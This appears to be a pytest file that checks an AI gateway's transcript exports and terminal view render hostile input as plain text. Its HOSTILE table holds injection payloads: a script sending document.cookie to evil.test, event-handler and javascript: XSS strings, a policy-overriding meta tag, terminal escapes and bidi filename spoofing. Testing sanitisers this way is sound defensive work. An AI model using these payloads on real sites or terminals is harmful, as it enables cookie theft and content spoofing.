"""Whatever a caller or a model wrote, who reads an export gets text and nothing that acts."""

import base64
import json
import re
import time
from html.parser import HTMLParser
from typing import Any

import pytest
from markdown_it import MarkdownIt
from support.exchanges import detail, export, stream

from gateway.cli.replaying import steps_of
from gateway.cli.transcript import show_exchange
from gateway.console.exports.transcript import LONGEST_BLOCK
from gateway.display import HIDDEN, visible
from lake.shown import ExchangeDetail, Mask, Owner

HOSTILE = {
    "a script": "<script>fetch('https://evil.test/'+document.cookie)</script>",
    "an end of the block": "</pre></section></article></main><img src=x onerror=alert(1)>",
    "an attribute": '" onmouseover="alert(1)" style=\'background:url(https://evil.test)',
    "an entity": "&lt;script&gt; &#60;b&#62; &amp;amp;",
    "another policy": '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    "a comment": "<!-- --><style>*{display:none}</style><svg onload=alert(1)>",
    "a fence": "````\n```text\n~~~~\n``````````\n# owned\n[x](javascript:alert(1))",
    "Markdown": "# title\n\n![x](https://evil.test/a) <b>b</b> [a]: https://evil.test\n---\n- x",
    "a terminal escape": "\x1b]0;owned\x07\x1b[2J\x1b[31m\x9b5n\x08\x7f",
    "turned text": "access \u202etxt.exe\u202c \u2066\u2067 \u200f\u061c",
    "what can't be seen": "a\u200bb\ufeffc\u2060d\U000e0041\U000e007f\u2028e\u2029f",
    "line ends": "a\r\nb\rc\x0bd\x0ce\x85f",
    "a null": "a\x00b",
}
TAGS = set(
    re.findall(
        r"\w+",
        "html head meta title style body header main footer article section h1 h2 h3 p span pre "
        "dl dt dd div details summary",
    )
)
ATTRIBUTES = {"lang", "charset", "http-equiv", "content", "name", "class", "style", "title", "dir"}


class Page(HTMLParser):
    """What a browser makes of a page: its tags, attributes and text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.comments = 0
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.comments += 1


def everywhere(text: str) -> ExchangeDetail:
    """Return an exchange that says a text wherever somebody outside may say anything."""
    blocks: list[Any] = [
        {"type": "text", "text": text},
        {"type": text, "name": text},
        {"type": "tool_use", "name": text, "input": {text: text}},
        {"type": "tool_result", "tool_use_id": text, "content": [{"type": "text", "text": text}]},
        {"type": "image", "source": {"media_type": text, "data": text}},
        {"type": "thinking", "thinking": text},
    ]
    return detail(
        asked=blocks,
        answered=blocks,
        session_id=text,
        subject=text,
        person=text,
        issuer=text,
        groups=[text],
        request_model=text,
        response_model=text,
        outcome=text,
        ending=text,
        reasons=[text],
        reason_messages=[text],
        error_message=text,
        stop_reason=text,
        endpoint=text,
        approvers=[text],
        approval_id=text,
        path=text,
        user_agent=text,
        masks_applied=[Mask(rule=text, place=text, count=1)],
        request_headers={text: text},
        prompt_text=text,
        response_text=text,
    )


def document(form: str, text: str) -> str:
    return export(
        form, everywhere(text), session_id=text, owner=Owner(text, text), exported_by=text
    )


@pytest.mark.parametrize("name", HOSTILE)
def test_an_exported_page_has_the_tags_of_ours_only(name: str) -> None:
    page, plain = Page(document("html", HOSTILE[name])), Page(document("html", "plain"))
    assert set(page.tags) <= TAGS
    assert {attribute for attribute, _ in page.attributes} <= ATTRIBUTES
    assert page.comments == 0
    marked = page.tags.count("span") - plain.tags.count("span")
    assert len(page.tags) - marked == len(plain.tags)
    assert page.attributes[:5] == plain.attributes[:5]
    assert ("content", "default-src 'none'; style-src 'unsafe-inline'") in page.attributes


@pytest.mark.parametrize("name", HOSTILE)
def test_an_exported_page_shows_the_text_itself(name: str) -> None:
    text = HOSTILE[name]
    assert visible(text) in Page(document("html", text)).text


@pytest.mark.parametrize("form", ["html", "markdown", "json"])
@pytest.mark.parametrize("name", HOSTILE)
def test_no_document_has_a_character_that_acts_or_hides(name: str, form: str) -> None:
    assert HIDDEN.search(document(form, HOSTILE[name])) is None


@pytest.mark.parametrize("name", HOSTILE)
def test_markdown_has_no_mark_up_but_ours(name: str) -> None:
    def shape(text: str) -> list[str]:
        tokens = MarkdownIt("commonmark").enable("table").parse(document("markdown", text))
        inner = [child.type for token in tokens for child in token.children or ()]
        kept = [kind for kind in inner if kind not in {"text", "text_special"}]
        return [token.type for token in tokens] + kept

    assert shape(HOSTILE[name]) == shape("plain")


@pytest.mark.parametrize("name", HOSTILE)
def test_json_says_exactly_what_was_recorded(name: str) -> None:
    text = HOSTILE[name]
    value = json.loads(document("json", text))
    (found,) = value["exchanges"]
    assert (value["count"], found["subject"]) == (1, text)
    assert found["request"]["messages"][0]["content"][0]["text"] == text
    body = base64.b64decode(found["request_body"])
    assert json.loads(body) == found["request"]


@pytest.mark.parametrize("name", HOSTILE)
def test_a_terminal_gets_text_only(name: str, capsys: pytest.CaptureFixture[str]) -> None:
    text = HOSTILE[name]
    show_exchange(everywhere(text), bodies=True)
    assert HIDDEN.search(capsys.readouterr().out) is None


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(b"", id="nothing"),
        pytest.param(b"\xff\xfe\x00<script>", id="no text"),
        pytest.param(b"[" * 100_000, id="deep nesting"),
        pytest.param(b'{"messages": 5, "content": {"a": 1}}', id="other types"),
        pytest.param(b'{"messages": [null, [], {"role": "user"}], "content": [1]}', id="no blocks"),
        pytest.param(b'{"a": 1, "a": 2}', id="a field twice"),
        pytest.param(
            b'{"messages": [{"role": "user", "content": "\\ud800"}], "content": "\\udfff"}',
            id="half of a pair",
        ),
        pytest.param(b'{"n": ' + b"9" * 10_000 + b"}", id="a number without end"),
        pytest.param(b"event: x\ndata: {\n\nevent: y", id="half a stream"),
        pytest.param(
            stream(("content_block_delta", {"index": 10**30, "delta": None})), id="odd events"
        ),
    ],
)
@pytest.mark.parametrize("kind", ["application/json", "text/event-stream"])
def test_a_body_that_is_nothing_we_know_is_still_exported(body: bytes, kind: str) -> None:
    found = detail(request_body=body, response_body=body, response_headers={"content-type": kind})
    for form in ("html", "markdown", "json"):
        assert export(form, found)
    assert json.loads(export("json", found))["count"] == 1
    assert list(steps_of(found))


def test_huge_texts_and_many_blocks_are_shortened_where_people_read() -> None:
    huge = "<b>" * 3_000_000
    many = [{"type": "text", "text": "x"}] * 20_000
    found = detail(asked=[{"type": "text", "text": huge}, *many], answered=huge)
    for form in ("html", "markdown"):
        began = time.process_time()
        shown = export(form, found)
        assert len(shown) < 20 * LONGEST_BLOCK
        assert "more characters" in shown
        assert "more blocks" in shown.replace("\\", "")
        assert time.process_time() - began < 20
